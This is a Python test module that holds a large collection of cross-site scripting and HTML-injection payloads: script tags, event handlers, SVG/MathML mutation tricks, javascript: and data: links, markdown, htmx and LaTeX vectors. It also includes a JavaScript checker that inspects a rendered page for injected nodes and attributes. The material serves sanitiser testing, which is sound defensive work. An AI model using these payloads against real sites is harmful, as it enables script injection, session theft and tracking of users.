"""Texts that try to become part of a page, and a judge that reads the page's own tree.

Every vector carries a mark, so that the judge can tell what came from a text; being shown as text is what should happen to it.
"""

from collections.abc import Iterator
from itertools import product

MARK = "zxhostile"  # too long for a random token of the page to hold it by chance; written `zx` in the lists below
RUN = "alert('zx')"
_TAGS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script/zx>{RUN}</script>",
    "<script src=https://zx.example/a.js></script>",
    f"<script>{RUN}//",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<!--><script>{RUN}</script>-->",
    f"]]><script>{RUN}</script>",
    "<style>*{background:url(https://zx.example/s)}</style>",
    "<link rel=stylesheet href=https://zx.example/c.css>",
    "<meta http-equiv=refresh content='0;url=https://zx.example/'>",
    "<base href=https://zx.example/>",
    "<iframe src=https://zx.example/></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src=javascript:{RUN}></iframe>",
    "<object data=https://zx.example/o></object>",
    "<embed src=https://zx.example/e>",
    "<form action=https://zx.example/><button>zx</button></form>",
    f"<button formaction=javascript:{RUN} form=logout>zx</button>",
    "<template><script>zx</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "<portal src=https://zx.example/></portal>",
    "<frameset><frame src=https://zx.example/></frameset>",
    f"<x-zx onclick={RUN}>zx</x-zx>",
    "<input name=zx value=zx autofocus>",
    "<select name=zx><option>zx</select>",
    "<dialog open id=zx>zx</dialog>",
    "<marquee>zx</marquee>",
    f"<isindex action=javascript:{RUN} type=image>",
    "<plaintext>zx",
    "<xmp><script>zx</script></xmp>",
    "<img src=https://zx.example/i.png>",
    "<img srcset='https://zx.example/i.png 1x'>",
    "<video poster=https://zx.example/p.png>",
    "<audio src=https://zx.example/a.mp3 autoplay>",
    "<body background=https://zx.example/b.png>",
    "<table background=//zx.example/t>",
    "<a href=/zx ping=https://zx.example/ping>zx</a>",
    "<a id=zx name=zx href=#>zx</a>",
    "<p class='zx button danger'>zx</p>",
]
_EVENTS = [
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbeforeinput",
    "onscrollend",
    "onwheel",
    "oncontentvisibilityautostatechange",
    "OnErRoR",
    "on\u017ferror",
    "onerror\t",
    "onerror/",
]
_CARRIERS = ["img src=x", "svg", "details open", "input autofocus", "body"]
_SVG = [
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN}>",
    f"<svg><a xlink:href=javascript:{RUN}><text>zx</text></a></svg>",
    "<svg><use href=https://zx.example/u.svg#zx></use></svg>",
    "<svg><image href=https://zx.example/i.png></svg>",
    f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe></foreignObject></svg>",
    "<svg><style>@import'//zx.example'</style></svg>",
    f"<svg><desc><img src=x onerror={RUN}></desc></svg>",
    f"<svg><title><a title='</title><img src=x onerror={RUN}>'></svg>",
]
_MUTATION = [
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<noscript><style></noscript><img src=x onerror={RUN}>",
    f"<math><mi><style><img src=x onerror={RUN}></style></mi></math>",
    f"<p><svg><style>&lt;img src=x onerror={RUN}&gt;</style></svg>",
    f"<math href=javascript:{RUN}>zx</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>zx</maction></math>",
    f"<select><template><img src=x onerror={RUN}></template></select>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"<a title='`<img src=x onerror={RUN}>`'>",
    f"`<img src=x onerror={RUN}>`",
    f"**<img src=x onerror={RUN}>**",
    f"|<img src=x onerror={RUN}>|b|\n|---|---|\n|<svg onload={RUN}>|zx|",
]
_ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java&#10;script:{RUN}",
    f"&#106;avascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript://zx.example/%0a{RUN}",
    f"vbscript:{RUN}",
    "data:text/html,<script>zx</script>",
    "data:image/svg+xml,<svg/onload=zx>",
    "data:text/html;base64,PHNjcmlwdD56eDwvc2NyaXB0Pg==#zx",
    f"view-source:javascript:{RUN}",
    "blob:https://zx.example/1",
    "file:///etc/zx",
    "//zx.example/protocol-relative",
    f'https://zx.example/" onmouseover="{RUN}',
    f"https://zx.example/' onmouseover='{RUN}",
    f"https://zx.example/><img/src=x/onerror={RUN}>",
    f"feed:javascript:{RUN}",
    f"%6aavascript:{RUN}",
]
_LINKS = ["[zx]({})", "[zx](<{}>)", "[zx]: {}\n\n[zx]", "<{}>", "![zx]({})", "{}"]
_HTMX = [
    "<div hx-get=/zx hx-trigger=load>zx</div>",
    "<div data-hx-get=/zx data-hx-trigger=load>zx</div>",
    f'<div hx-on:load="{RUN}">zx</div>',
    f'<div hx-on--load="{RUN}">zx</div>',
    "<a hx-boost=true hx-delete=/zx href=/zx>zx</a>",
    "<div hx-vals=\"js:{x:alert('zx')}\" hx-post=/zx hx-trigger=load>",
    "<form hx-post=/zx hx-trigger=load></form>",
    "<div data-zx=1 data-shortcut=zx data-autosave=/zx>zx</div>",
    "<b hx-ext=zx hx-swap-oob=true id=messages>zx</b>",
    '<meta name=htmx-config content=\'{"allowEval":true,"zx":1}\'>',
]
_FORMULAS = [
    rf"\text{{<svg/onload={RUN}>}}",
    rf"\text{{<img src=x onerror={RUN}>}}",
    r"\text{<img src=https://zx.example/m.png>}",
    rf"\text{{<script>{RUN}</script>}}",
    rf"\href{{javascript:{RUN}}}{{zx}}",
    r"\style{background:url(//zx.example/f)}{zx}",
    r"\class{zx button}{zx}",
    r"\id{zx}{zx}",
    rf"\mbox{{<iframe src=javascript:{RUN}>}}",
    r"\textbf{<style>*{--zx:1}</style>}",
    rf"\text{{</mtext></math><img src=x onerror={RUN}>}}",
    r"\unicode{<zx>}",
    r"\operatorname{<a href=/zx ping=//zx.example>}",
    r"\text{<div hx-get=/zx hx-trigger=load>}",
    r"\includegraphics{https://zx.example/g}",
]
_MARKDOWN = [
    f'```zx" onclick={RUN}\n<script>{RUN}</script>\n```',
    f"```html\n<img src=x onerror={RUN}>\n```",
    "[^zx]\n\n[^zx]: <script>zx</script>",
    f"- [x] <input onfocus={RUN} autofocus>",
    f"# <img src=x onerror={RUN}>",
    f"> <svg onload={RUN}>",
    f"[zx](/zx \"x' onmouseover={RUN} '\")",
    f"[zx](/zx '\"><img src=x onerror={RUN}>')",
    "www.zx.example/<script>zx</script>",
    "zx@zx.example<script>zx</script>",
    f'<https://zx.example/" onclick={RUN}>',
    f"[<img src=x onerror={RUN}>](https://zx.example)",
    f"{{{{ zx|safe }}}} {{% load zx %}} ${{{RUN}}}",
    f'{{{{constructor.constructor("{RUN}")()}}}}',
]


def _all() -> Iterator[str]:
    yield from _TAGS
    yield from (f"<{carrier} {event}={RUN}>zx" for carrier, event in product(_CARRIERS, _EVENTS))
    yield from _SVG
    yield from _MUTATION
    yield from (link.format(address) for address, link in product(_ADDRESSES, _LINKS))
    yield from (f'"{quote}{event}={RUN} zx="' for quote, event in product((" ", "/"), ("onfocus", "onmouseover")))
    yield from (f"' {event}={RUN} zx='" for event in ("onfocus autofocus", "style=--zx:1 onclick"))
    yield from _HTMX
    yield from (f"${formula}$" for formula in _FORMULAS)
    yield from (f"$$\n{formula}\n$$" for formula in _FORMULAS)
    yield from _MARKDOWN


VECTORS = list(dict.fromkeys(vector.replace("zx", MARK) for vector in _all()))
POLYGLOT = f"\"'></title></textarea></script><img src=x onerror={RUN}><svg/onload={RUN}>".replace("zx", MARK)


def portions(most: int) -> list[str]:
    """All vectors in texts of at most so many characters; one that is longer alone is cut."""
    found, text = [], ""
    for vector in VECTORS:
        if text and len(text) + 2 + len(vector) > most:
            found.append(text)
            text = ""
        text = f"{text}\n\n{vector}" if text else vector[:most]
    return [*found, text]


def in_one_line(most: int) -> list[str]:
    """The same for fields of one line."""
    return [" ".join(text.split()) for text in portions(most)]


JUDGE = """() => {
  const said = /zx/i, bad = [...(window.violations || [])];
  const texts = new Set(["value", "alt", "title", "content", "aria-label", "placeholder", "label", "hx-confirm"]);
  const silent = new Set(["script", "style", "template", "iframe", "object", "noscript", "xmp", "plaintext", "frame"]);
  const note = text => bad.push(text.slice(0, 200));
  for (const element of document.querySelectorAll("*")) {
    const tag = element.localName, isData = tag === "script" && /json/.test(element.type);
    if (said.test(tag) || (silent.has(tag) && !isData && said.test(element.textContent))) note(element.outerHTML);
    for (const {name, value} of element.attributes) {
      const key = name.toLowerCase();
      if (/^on/.test(key) || said.test(key) || key === "srcdoc") note(`${tag} ${name}=${value}`);
      if (!said.test(value) || texts.has(key)) continue;
      if (key === "href" && tag === "a") {
        if (!/^(https?|mailto):$/.test(new URL(value, location.href).protocol)) note(`a href=${value}`);
      } else if (key === "id" ? !/^md-/.test(value) : !/^data-/.test(key)) note(`${tag} ${name}=${value}`);
    }
  }
  return bad;
}""".replace("/zx/i", f"/{MARK}/i")
"""What on the page came out of a text and is more than text: nodes, attributes, addresses; and violations of the policy."""
